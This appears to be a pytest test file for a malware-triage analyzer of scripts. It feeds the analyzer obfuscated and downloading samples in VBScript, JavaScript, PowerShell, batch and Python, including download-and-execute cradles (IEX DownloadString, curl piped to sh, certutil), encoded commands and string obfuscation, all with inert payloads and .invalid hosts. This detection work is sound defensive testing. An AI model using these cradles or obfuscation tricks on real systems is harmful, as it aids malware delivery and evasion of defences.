"""Scripts are judged by concealment and intent: honest ones stay clean, whatever they create or fetch."""

import base64
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emotriage.analyzers.script import ANALYZER
from emotriage.model.analyzer import Child, Subject
from emotriage.model.blob import Blob
from emotriage.model.finding import GUESS, Finding, Trait
from emotriage.model.indicator import Indicator
from emotriage.model.limits import Budget, Limits
from emotriage.model.padding import RunFinder
from emotriage.model.step import Recovered, Step
from emotriage.testing import encoded_script

RUN = 'CreateObject("WScript.Shell").Run "emotriage-inert"'
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"
ENCODED = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def look(text: str | bytes, kind: str = "script", name: str = "a") -> list:
    data = text.encode() if isinstance(text, str) else text
    blob = Blob(data)
    runs = RunFinder()
    runs.feed(data)
    blob.holes = runs.finish()
    return list(ANALYZER.run(Subject(blob, kind, name, Budget(Limits()))))


def rules_of(found: list) -> set[str]:
    return {one.rule.removeprefix("script.") for one in found if isinstance(one, Finding)}


def traits_of(found: list) -> set[Trait]:
    return {trait for one in found if isinstance(one, Finding) for trait in one.traits}


HIDING = {
    "joined": 'WScript["Create" + "Object"]("WScr" + "ipt.Sh" + "ell")["Ru" + "n"]("emotriage-inert");\nvar a = 1;',
    "character codes": "Execute(" + " & ".join(f"Chr({ord(one)})" for one in RUN) + ")\n",
    "reversed": 'Set b = CreateObject(StrReverse("llehS.tpircSW"))\nb.Run "emotriage-inert"\n',
    "percent": 'eval(unescape("' + "".join(f"%{ord(one):02x}" for one in f"new {RUN}") + '"));',
    "string array": "var _0x4f=['V1NjcmlwdC5TaGVsbA==','UnVuIGl0'];var f=function(i){return atob(_0x4f[i]);};"
    "new ActiveXObject(f(0)).Run('emotriage-inert');",
    "junk": "var a='"
    + "qzq".join("WScript.Shell")
    + "'.split('qzq').join('');new ActiveXObject(a).Run('emotriage-inert');",
    "fragments": 'var a="WSc",b="ript.",c="Shell",d="emotriage-inert";'
    "function f(x){return new ActiveXObject(x);}f(a+b+c).Run(d);",
    "PowerShell join": "$a='Down'+'load'+'String'; $b=('{1}{0}' -f 'Client','Net.Web');"
    " I`E`X (New-Object $b).$a('http://a.invalid')",
    "PowerShell codes": f"iex (-join([char[]]({','.join(str(ord(one)) for one in CRADLE)})))",
    "PowerShell xor": f"$d=@({','.join(str(ord(one) ^ 65) for one in CRADLE)}); "
    f"$d | % {{ $s+=[char]($_ -bxor 65) }}; iex $s",
    "batch letters": "@echo off\nset k=abcdefghijklmnopqrstuvwxyz\n"
    + "%k:~15,1%%k:~14,1%%k:~22,1%%k:~4,1%%k:~17,1%%k:~18,1%%k:~7,1%%k:~4,1%%k:~11,1%%k:~11,1% -c emotriage-inert\n"
    * 2,
    "batch carets": "@echo off\n" + "p^o^w^e^r^s^h^e^l^l -c e^m^o^t^r^i^a^g^e-i^n^e^r^t\n" * 2,
    "batch ghosts": "@echo off\n" + "po%-%w%+%er%#%sh%-%ell -c e%-%mo%+%tri%#%age-in%-%ert\n" * 3,
    "batch parts": "@echo off\nsetlocal enabledelayedexpansion\nset a=powers\nset b=hell\n!a!!b! -c emotriage-inert\n",
    "encoded command": f"@echo off\npowershell -nop -w hidden -enc {ENCODED}\n",
    "encoded in VBScript": f'CreateObject("WScript.Shell").Run "powershell -e {ENCODED}", 0, False\n',
    "Python": "import base64\nexec(base64.b64decode('"
    + base64.b64encode(b'__import__("os.system")("emotriage")').decode()
    + "'))\n",
}


@pytest.mark.parametrize("how", HIDING)
def test_hidden_intent_is_told(how):
    assert {Trait.EXECUTE, Trait.OBFUSCATE} <= traits_of(look(HIDING[how], name="a.js"))


OPEN = {
    "download in VBScript": 'Set x = CreateObject("MSXML2.XMLHTTP")\n'
    'x.Open "GET", "http://a.invalid/a", False\nx.Send\n'
    'Set s = CreateObject("ADODB.Stream")\ns.Write x.responseBody\ns.SaveToFile "a.exe", 2\n'
    'CreateObject("WScript.Shell").Run "a.exe"\n',
    "answer is run": 'Set x = CreateObject("Microsoft.XMLHTTP")\nx.Send\na = Array(1, x.responseText)\nExecute a(1)\n',
    "cradle": CRADLE,
    "curl to sh": "#!/bin/sh\ncurl -fsSL http://example.invalid/x | sh\n",
    "certutil": "certutil -urlcache -split -f http://example.invalid/a.exe %temp%\\a.exe && start %temp%\\a.exe\n",
}


@pytest.mark.parametrize("how", OPEN)
def test_open_downloaders_are_told(how):
    assert {Trait.EXECUTE, Trait.DOWNLOAD} <= traits_of(look(OPEN[how]))


HONEST = {
    "inventory": 'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
    'For Each o In w.ExecQuery("Select * From Win32_Service")\n'
    "  WScript.Echo o.Name\nNext\n",
    "starts a program": 'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe C:\\readme.txt", 1, True\n',
    "quiet": 'Set s = CreateObject("WScript.Shell")\ns.Run "reg add HKCU\\Software\\X /v a /d b", 0, True\n',
    "fetches": "$r = Invoke-WebRequest https://example.invalid/status\nWrite-Host $r.StatusCode\n",
    "batch": "@echo off\nsetlocal\nset name=%~n1\n"
    "if not exist %TEMP%\\x md %TEMP%\\x\nfor %%a in (*.txt) do echo %%~na\nstart notepad\n",
    "library": '(function(w){"use strict";var d=w.document;function q(s){return d.querySelector(s)}w.q=q;'
    'try{w.x=JSON.parse("{}")}catch(e){eval("1")}})(window);',
    "regular expressions": "var a = /[\\x00-\\x1f]/g, b = '\\u00e9\\u20ac', c = ['a','b','c'].join(',').split(',');\n",
}


@pytest.mark.parametrize("how", HONEST)
def test_honest_scripts_show_no_intent(how):
    found = traits_of(look(HONEST[how]))
    assert Trait.OBFUSCATE not in found
    assert Trait.DOWNLOAD not in found
    assert not {Trait.EVADE, Trait.EXECUTE} <= found


def test_a_text_is_judged_when_its_name_makes_it_a_script():
    text = 'x("WScr" + "ipt.Sh" + "ell")'
    assert "hidden-words" in rules_of(look(text, kind="text", name="invoice.JS. "))
    assert look(text, kind="text", name="notes.txt") == []


def test_a_script_deep_in_a_text_is_a_guess():
    text = "Some words of no meaning.\n" * 12_000
    text = text[: 256 << 10] + "\n" + HIDING["joined"] + "\n" + text
    found = [one for one in look(text, kind="text", name="notes.txt") if isinstance(one, Finding)]
    assert found
    assert all(one.confidence == GUESS and not one.traits for one in found)


@pytest.mark.parametrize(
    "text", ["", "Dear all,\nplease find attached the minutes.\n", "a;b;c\n1;2;3\n", '{"a": [1, 2]}']
)
def test_texts_are_left_alone(text):
    assert look(text, kind="text", name="notes.txt") == []


def test_indicators_say_whether_they_stood_there():
    found = [
        one
        for one in look(f"start http://example.invalid/plain\npowershell -enc {ENCODED}\n")
        if isinstance(one, Indicator)
    ]
    assert ("http://example.invalid/plain", "literal") in [(one.value, one.origin) for one in found]
    assert ("http://example.invalid/a.ps1", "decoded") in [(one.value, one.origin) for one in found]
    assert ("command", CRADLE) in [(one.kind, one.value) for one in found]


def test_evidence_has_lines():
    found = [one for one in look("// one\n// two\n" + HIDING["joined"]) if isinstance(one, Finding)]
    places = {e.where for one in found for e in one.evidence}
    assert any(place.startswith("line 3") for place in places)


def test_a_program_in_a_literal_is_a_child():
    program = b"MZ" + bytes(80) + b"emotriage-inert"
    found = look(f"$b = [Convert]::FromBase64String('{base64.b64encode(program).decode()}')\n")
    assert [one.content for one in found if isinstance(one, Child)] == [program]
    assert "embedded-file" in rules_of(found)


def test_an_encoded_script_is_judged_as_what_it_says():
    plain = 'Set shell = CreateObject("WScript.Shell")\nshell.Run "emotriage-inert /x"\n'
    found = look(encoded_script(plain))
    assert rules_of(found) == rules_of(look(plain)) | {"encoded-script"}
    assert not any(one.incomplete for one in found if isinstance(one, Finding))
    assert [(one.value, one.origin) for one in found if isinstance(one, Indicator)] == [
        ("emotriage-inert /x", "decoded")
    ]
    assert [one.text for one in found if isinstance(one, Recovered)] == [plain.replace("\n", "\r\n")]


def test_an_encoded_script_that_breaks_off_is_a_gap():
    found = look("#@~^EAAAAA==xyzEAAAAA==^#~@")
    assert {(one.rule, one.incomplete) for one in found if isinstance(one, Finding)} == {
        ("script.encoded-script", False),
        ("script.damaged-encoding", True),
    }


def test_a_script_tells_its_story():
    hidden = "".join(f"%{ord(one):02x}" for one in 'new ActiveXObject("WScript.Shell").Run("emotriage-inert /x")')
    steps = [one for one in look(f"eval(unescape('{hidden}'));\n", name="a.js") if isinstance(one, Step)]
    assert [(one.action, one.depth) for one in steps] == [("begin", 0), ("decode", 1), ("create", 0), ("start", 0)]
    assert steps[-1].text == "emotriage-inert /x"


@pytest.mark.parametrize("fill", [b"\0", b" ", b"\n"])
@pytest.mark.parametrize("where", ["front", "inside", "end"])
def test_padding_hides_nothing(fill, where):
    plain = HIDING["joined"].encode()
    first, second = plain.split(b"\n")
    pad = fill * (3 << 20)
    data = {"front": pad + plain, "inside": first + b"\n" + pad + second, "end": plain + pad}[where]
    assert rules_of(look(data)) == rules_of(look(plain))


def test_what_is_too_long_is_a_gap_and_its_end_is_read(monkeypatch):
    monkeypatch.setattr("emotriage.analyzers.script._LIMIT", 64 << 10)
    monkeypatch.setattr("emotriage.analyzers.script._TAIL", 8 << 10)
    junk = "\n".join(f"// {random.Random(number).getrandbits(200):x}" for number in range(2000))
    found = look("var a = 1;\n" + junk + "\n" + HIDING["joined"])
    assert {"not-read-whole", "hidden-words"} <= rules_of(found)
    assert rules_of(look("var a = 1;\n" + junk + "\nvar b = 2;\n")) == {"not-read-whole"}


@pytest.mark.parametrize("how", HIDING)
def test_encodings_hide_nothing(how):
    expected = rules_of(look(HIDING[how], name="a.js"))
    for codec in ("utf-8-sig", "utf-16", "utf-16-le"):
        assert rules_of(look(HIDING[how].encode(codec), name="a.js")) == expected


@settings(max_examples=60)
@given(st.sampled_from(sorted(HIDING)), st.integers(0, 400), st.binary(max_size=40))
def test_damaged_scripts_raise_nothing(how, cut, junk):
    data = HIDING[how].encode()
    for one in (data[:cut] + junk + data[cut:], data[: len(data) - cut] + junk):
        look(one, kind="text", name="a.bat")
        look(one, kind="hta")


@pytest.mark.parametrize(
    "unit",
    [
        "eval(",
        "powershell ",
        "var a='b';",
        "%a:~1,1%",
        "curl ",
        "a[b](",
        "'a',",
        "x=1,",
        "Execute(a)\n",
        "&#65;",
        "http://",
        "certutil -",
    ],
)
def test_work_is_linear(unit):
    works = []
    for count in (4000, 8000):
        budget = Budget(Limits())
        list(ANALYZER.run(Subject(Blob((unit * count).encode()), "script", "a.bat", budget)))
        works.append(budget.work)
    assert works[1] < 2.6 * works[0] + 1_000_000


def test_files_that_a_batch_file_writes_are_children():
    armour = base64.b64encode(b"MZ" + bytes(20) + b"emotriage-inert").decode()
    text = (
        "@echo off\n(echo var a = 1;\necho WScript.Echo^(a^);)>%temp%\\a.js\n"
        'certutil -decode "%~f0" %temp%\\a.tmp\nexit /b\n'
        f"-----BEGIN CERTIFICATE-----\n{armour}\n-----END CERTIFICATE-----\n"
    )
    children = {one.name: one.content for one in look(text, name="a.bat") if isinstance(one, Child)}
    assert children == {
        "a.js": b"var a = 1;\r\nWScript.Echo(a);\r\n",
        "a.tmp": b"MZ" + bytes(20) + b"emotriage-inert",
    }
